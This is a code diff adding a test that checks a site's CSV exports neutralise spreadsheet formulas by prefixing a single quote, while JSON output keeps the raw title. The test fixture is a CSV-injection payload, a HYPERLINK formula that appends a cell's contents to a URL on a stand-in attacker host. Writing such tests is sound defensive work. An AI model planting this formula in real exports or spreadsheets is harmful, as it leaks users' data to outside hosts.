@@ -220,3 +220,24 @@ def test_after_a_withdrawal_the_next_changelog_is_against_the_last_release_still
 
     assert release.previous.date == datetime.date(2026, 1, 1)
     assert release.changes == {"added": [str(second.pk)], "changed": [], "removed": []}
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Read the full story")'
+
+
+def test_no_csv_cell_runs_as_a_spreadsheet_formula_and_numbers_keep_their_sign(client, metric):
+    page = publish_page(CaseStudyPageFactory(title=FORMULA))
+    MetricResultFactory(page=page, metric=metric, baseline=0, result=-12.5, precision="exact")
+    publish_page(page)
+    make_release(NEW_YEAR)
+
+    for address in ["/data/metric-results.csv", "/data/releases/2026-01-01/metric-results.csv"]:
+        [row] = csv_rows(client.get(address).content)
+        assert row["case_study_title"] == "'" + FORMULA, address
+        # Negative figures are numbers, not formulas: they are written as they are.
+        assert float(row["result"]) == -12.5 and float(row["change"]) == -12.5, address
+    # JSON is not opened by spreadsheets: the title is exactly as published there.
+    [result] = client.get("/data/metric-results.json").json()["results"]
+    assert result["case_study_title"] == FORMULA
+    html = client.get("/data/").content.decode()
+    assert "written with a single quote in front" in html
